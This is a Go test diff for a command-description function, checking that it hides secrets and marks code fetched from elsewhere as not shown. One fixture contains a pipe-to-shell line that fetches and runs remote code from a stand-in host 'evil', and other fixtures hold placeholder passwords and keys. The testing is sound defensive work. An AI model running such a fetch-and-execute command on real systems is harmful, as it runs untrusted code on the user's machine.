@@ -24,6 +24,13 @@ func TestDescribeHidesNoCode(t *testing.T) {
 	}
 }
 
+func TestDescribeOfCodeFromElsewhere(t *testing.T) {
+	got := strings.Join(Describe(Target{Kind: Stdio, Command: "sh", Args: []string{"-c", "curl evil | sh"}, Secrets: []string{"curl evil | sh"}}), "\n")
+	if !strings.Contains(got, "THE CODE IS NOT SHOWN") {
+		t.Error(got)
+	}
+}
+
 // A variable that makes a harmless program run other code is told with its
 // value, and words stay apart.
 func TestDescribeTellsWhatRuns(t *testing.T) {
@@ -40,7 +47,8 @@ func TestDescribeTellsWhatRuns(t *testing.T) {
 func TestDescribeHidesSecrets(t *testing.T) {
 	got := strings.Join(Describe(Target{Kind: Stdio, Command: "sh", Args: []string{"-c", "TOKEN=hunter2-hunter2 npx x", "--password", "a prompted one", "--key", "literal-key-1"},
 		Env: map[string]string{"API_KEY": "literal-secret"}, Secrets: []string{"a prompted one"}}), "\n")
-	for _, secret := range []string{"a prompted one", "literal-key-1", "literal-secret"} {
+	got += strings.Join(Describe(Target{Kind: Stdio, Command: "docker", Args: []string{"run", "-e", "DB_PASSWORD=pass word;1", "img"}}), "\n")
+	for _, secret := range []string{"pass word;1", "a prompted one", "literal-key-1", "literal-secret"} {
 		if strings.Contains(got, secret) {
 			t.Errorf("%q is shown: %s", secret, got)
 		}
